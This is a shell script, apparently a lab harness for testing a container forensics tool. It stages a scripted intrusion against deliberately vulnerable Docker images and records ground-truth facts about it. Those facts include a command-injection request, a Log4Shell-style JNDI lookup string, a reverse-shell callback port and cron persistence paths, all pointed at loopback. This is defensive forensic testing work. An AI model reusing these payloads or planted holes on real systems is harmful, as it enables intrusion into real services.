#!/bin/sh
# Capture harness, Docker: start a private dockerd (data root, exec root and socket under a
# new temp directory; no iptables, no default bridge), build the lab image offline from
# Debian's busybox-static, play a scripted incident in it (loopback traffic only), capture
# the victim with `ctriage collect-script`, record the facts from the host's own view
# (/proc, the overlay2 upper dir), stop everything and keep the daemon's data root.
#
# Usage: samples/capture/docker.sh [--jvm|--multi] OUT    (as root; OUT must not exist)
# Scenarios: the default is `shop-web`, busybox httpd with a command-injectable CGI; --jvm is
# `orders-app`, a JVM app (jlink of Debian's OpenJDK 17, javac-compiled) whose logger
# resolves JNDI lookups, exploited Log4Shell-style; --multi plays both victims, a benign
# neighbour and the attacker's own container on one daemon (docker-multi.sh says how, and
# what it writes instead of OUT/facts.tsv and OUT/bundle/).
# Env:   CTRIAGE (the ctriage binary, default: ctriage on PATH), DOCKERD, DOCKER (default
#        Debian's /usr/sbin/dockerd and /usr/bin/docker).
# Writes OUT/bundle/ (what collect-script captured), OUT/facts.tsv (what happened, from the
# host), OUT/dataroot.tar (the daemon's /var/lib/docker after shutdown: overlay2 with real
# whiteout devices), OUT/collect.sh, OUT/attacker.log, OUT/dockerd.log.
# Exits non-zero, loudly, when the daemon cannot start or a step fails. One run at a time:
# the host paths dockerd and containerd's shims make whatever their roots (/run/docker,
# /run/containerd) are removed at the end when this run created them.
set -eu

HERE=$(cd "$(dirname "$0")" && pwd)
# shellcheck source-path=SCRIPTDIR source=lib.sh
. "$HERE/lib.sh"

SCENARIO=web
case ${1:-} in
  --jvm | --multi)
    SCENARIO=${1#--}
    shift
    ;;
esac
[ $# -eq 1 ] || die "usage: $0 [--jvm|--multi] OUT"
[ -e "$1" ] && die "$1 exists"
[ "$(id -u)" -eq 0 ] || die "needs root (dockerd)"
CTRIAGE=${CTRIAGE:-ctriage}
DOCKERD=${DOCKERD:-/usr/sbin/dockerd}
DOCKER=${DOCKER:-/usr/bin/docker}
need "$DOCKERD" "$DOCKER" "$CTRIAGE" /bin/busybox tar stat awk ip
case $SCENARIO in
  web)
    NAME=shop-web
    IMAGE=lab/shop-web:1.0
    SUBNET=10.213.0.0/24
    EXPLOIT=exploit.sh
    ;;
  jvm)
    NAME=orders-app
    IMAGE=lab/orders:1.0
    SUBNET=10.213.1.0/24
    EXPLOIT=exploit-jvm.sh
    JAVA_HOME=${JAVA_HOME:-/usr/lib/jvm/java-17-openjdk-amd64}
    need "$JAVA_HOME/bin/jlink" "$JAVA_HOME/bin/javac" ldd
    ;;
  multi)
    JAVA_HOME=${JAVA_HOME:-/usr/lib/jvm/java-17-openjdk-amd64}
    need "$JAVA_HOME/bin/jlink" "$JAVA_HOME/bin/javac" ldd
    ;;
esac
mkdir -p "$1"
OUT=$(cd "$1" && pwd)

T=$(mktemp -d /tmp/ctriage-docker.XXXXXX)
ROOT=$T/var/lib/docker
DOCKER_HOST=unix://$T/docker.sock
export DOCKER_HOST
DOCKERD_PID=
BRIDGE=
cleanup() {
  rc=$?
  stop_dockerd
  remove_bridge
  unmount_under "$T"
  remove_created
  rm -rf "$T"
  exit "$rc"
}
stop_dockerd() {
  [ -n "$DOCKERD_PID" ] || return 0
  kill -TERM "$DOCKERD_PID" 2>/dev/null || true
  i=0
  while kill -0 "$DOCKERD_PID" 2>/dev/null; do
    i=$((i + 1))
    [ "$i" -gt 300 ] && { say "dockerd did not stop: killing it"; kill -KILL "$DOCKERD_PID" 2>/dev/null || true; }
    sleep 0.1
  done
  DOCKERD_PID=
}
# The lab network's bridge stays on the host when dockerd stops (dockerd keeps networks for
# its next start): delete it, by its name, once the daemon is gone; the data root keeps the
# network's record.
remove_bridge() {
  [ -n "$BRIDGE" ] || return 0
  ip link delete "$BRIDGE" 2> /dev/null || true
  BRIDGE=
}
trap cleanup EXIT
trap 'exit 130' INT TERM

note_created /run/docker /run/containerd
say "dockerd: private root $T"
mkdir -p "$ROOT" "$T/run" "$T/tmp"
# TMPDIR: containerd dumps goroutine stacks there (containerd.PID.stacks.log) when asked.
TMPDIR=$T/tmp "$DOCKERD" --data-root "$ROOT" --exec-root "$T/run/docker" --pidfile "$T/dockerd.pid" \
  --storage-driver overlay2 --iptables=false --ip6tables=false --bridge=none \
  --host "$DOCKER_HOST" > "$OUT/dockerd.log" 2>&1 &
DOCKERD_PID=$!
i=0
until "$DOCKER" version > /dev/null 2>&1; do
  i=$((i + 1))
  if [ "$i" -gt 300 ] || ! kill -0 "$DOCKERD_PID" 2>/dev/null; then
    tail -n 30 "$OUT/dockerd.log" >&2
    die "dockerd did not start (log above, full log in $OUT/dockerd.log)"
  fi
  sleep 0.1
done
say "dockerd $("$DOCKER" version --format '{{.Server.Version}}') up"

# stop_and_keep_root: stop dockerd and tar its data root (the containers are killed first).
stop_and_keep_root() {
  stop_dockerd
  remove_bridge
  unmount_under "$T"
  tar --numeric-owner --sort=name -C "$T" -cf "$OUT/dataroot.tar" var/lib/docker
  say "done: $OUT"
}

if [ "$SCENARIO" = multi ]; then
  # shellcheck source-path=SCRIPTDIR source=docker-multi.sh
  . "$HERE/docker-multi.sh"
  stop_and_keep_root
  exit 0
fi

say "image $IMAGE: busybox-static rootfs ($SCENARIO), imported (no registry)"
build_rootfs "$T/rootfs" "$SCENARIO"
tar_rootfs "$T/rootfs" "$T/rootfs.tar"
case $SCENARIO in
  web)
    "$DOCKER" import \
      -c 'CMD ["httpd", "-f", "-v", "-p", "8080", "-h", "/www"]' -c 'EXPOSE 8080/tcp' -c 'WORKDIR /' \
      -m 'shop-web 1.0: busybox-static + ping CGI' "$T/rootfs.tar" "$IMAGE" > /dev/null
    ;;
  jvm)
    "$DOCKER" import \
      -c 'CMD ["/opt/java/bin/java", "-Xmx64m", "-cp", "/app", "OrderService"]' -c 'EXPOSE 8080/tcp' \
      -c 'WORKDIR /app' -c 'ENV JAVA_HOME=/opt/java' \
      -m 'orders 1.0: OpenJDK 17 (jlink) + OrderService' "$T/rootfs.tar" "$IMAGE" > /dev/null
    ;;
esac

say "victim: $NAME on an internal network"
NETWORK_ID=$("$DOCKER" network create --internal --subnet "$SUBNET" lab-internal)
BRIDGE=br-$(printf '%.12s' "$NETWORK_ID")
"$DOCKER" run -d --name "$NAME" --hostname "$NAME" --network lab-internal \
  -e DB_PASSWORD=lab-only-secret "$IMAGE" > /dev/null
CPID=$("$DOCKER" inspect -f '{{.State.Pid}}' "$NAME")
wait_for "the web server" 50 listening "$CPID" 8080

say "attacker: listener in the victim's network namespace, then the requests"
"$DOCKER" run -d --name attacker --network "container:$NAME" -v "$HERE/attacker:/attack:ro" \
  --entrypoint sh "$IMAGE" /attack/listener.sh > /dev/null
sleep 1
EXPLOIT_AT=$(date -u +%s)
"$DOCKER" run --rm --name attacker-requests --network "container:$NAME" \
  -v "$HERE/attacker:/attack:ro" --entrypoint sh "$IMAGE" "/attack/$EXPLOIT" > "$OUT/requests.log" 2>&1
UPPER=$("$DOCKER" inspect -f '{{.GraphDriver.Data.UpperDir}}' "$NAME")
i=0
until [ -c "$UPPER/root/.ash_history" ] && "$DOCKER" logs attacker 2>&1 | grep -q attack-done; do
  i=$((i + 1))
  [ "$i" -gt 300 ] && { "$DOCKER" logs attacker >&2 || true; die "the incident did not finish"; }
  sleep 0.1
done

CID=$("$DOCKER" inspect -f '{{.Id}}' "$NAME")
IMAGE_ID=$("$DOCKER" inspect -f '{{.Image}}' "$NAME")
say "incident played in $CID (host pid $CPID)"
container_processes "$CPID" > "$T/procs-before"

say "capture: ctriage collect-script"
"$CTRIAGE" collect-script "$NAME" --out "$OUT/bundle" > "$OUT/collect.sh"
CTRIAGE_RUNTIME=$DOCKER sh "$OUT/collect.sh" || die "collect-script's script failed (see $OUT/bundle/collect.log)"
container_processes "$CPID" > "$T/procs-after"

say "facts"
{
  printf 'runtime\tdocker\t%s\n' "$("$DOCKER" version --format '{{.Server.Version}}')"
  printf 'container\t%s\t%s\t%s\n' "$CID" "$NAME" "$CPID"
  printf 'image\t%s\t%s\n' "$IMAGE_ID" "$IMAGE"
  printf 'exploit_sent\t%s\n' "$EXPLOIT_AT"
  # processes alive both before and after the capture, as the host's /proc saw them
  sort "$T/procs-before" "$T/procs-after" | uniq -d
  file_fact added tmp/.x/agent.sh
  file_fact added var/spool/cron/crontabs/root
  file_fact deleted root/.ash_history
  printf 'callback\t127.0.0.1\t4444\n'
  printf 'jndi\t%s\n' "\${jndi:ldap://127.0.0.1:1389/Exploit}"
  case $SCENARIO in
    web)
      printf 'way_in\tinjection\n'
      printf 'request\t/cgi-bin/ping?host=127.0.0.1%%3Bid\n'
      ;;
    jvm)
      printf 'way_in\tjndi\n'
      sed -n 's/^exploit: /jndi_exploit\t/p; s/^command: /jndi_command\t/p' "$OUT/requests.log"
      ;;
  esac
} > "$OUT/facts.tsv"
"$DOCKER" logs attacker > "$OUT/attacker.log" 2>&1

say "stop: kill the containers, stop dockerd, keep its data root"
"$DOCKER" kill attacker "$NAME" > /dev/null
stop_and_keep_root
